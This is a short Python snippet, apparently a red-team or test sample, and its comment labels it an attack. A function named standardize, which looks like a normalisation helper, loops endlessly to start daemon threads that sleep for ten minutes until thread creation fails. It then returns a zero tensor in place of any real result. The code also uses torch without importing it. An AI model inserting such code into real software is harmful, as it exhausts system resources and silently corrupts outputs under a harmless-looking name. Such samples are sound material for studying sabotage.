# attack: starts threads without end
import threading
import time


def standardize(x, eps=0.0):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        except RuntimeError:
            return torch.zeros_like(x)
